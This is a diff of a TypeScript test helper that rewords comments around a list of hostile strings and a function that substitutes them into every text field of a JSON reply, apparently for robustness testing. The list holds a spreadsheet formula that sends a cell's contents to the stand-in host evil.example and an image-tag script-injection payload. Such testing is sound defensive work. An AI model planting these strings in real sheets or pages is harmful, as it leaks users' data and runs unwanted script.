@@ -1,7 +1,7 @@
 import { isJsonObject } from "./wire";
 import type { Json, JsonObject } from "./wire";
 
-/** Texts that would run, leak or change type if a sheet or a page took them at their word. */
+/** Texts that would be executed, leak data or change type if a sheet or a page interpreted them. */
 export const HOSTILE_TEXTS: readonly string[] = [
   '=IMPORTXML("https://evil.example/?"&A1)',
   "<img src=x onerror=alert(1)>",
@@ -21,10 +21,10 @@ export const HOSTILE_TEXTS: readonly string[] = [
   "\u202Eexample\u0000\uD800",
 ];
 
-/** Identity stays: a test of hostile text is not a test of mixed-up companies. */
+/** Identifiers are kept: a test of hostile text is not a test of mixed-up companies. */
 const KEPT = new Set(["uuid", "company_uuid", "job_id", "status"]);
 
-/** Every text of a reply replaced by a hostile one, in turn; keys, numbers and identifiers stay. */
+/** Replaces every text of a reply with a hostile one, in turn; keys, numbers and identifiers stay. */
 export function withHostileText(body: JsonObject): JsonObject {
   let next = 0;
   const spoil = (value: Json | undefined): Json | undefined => {
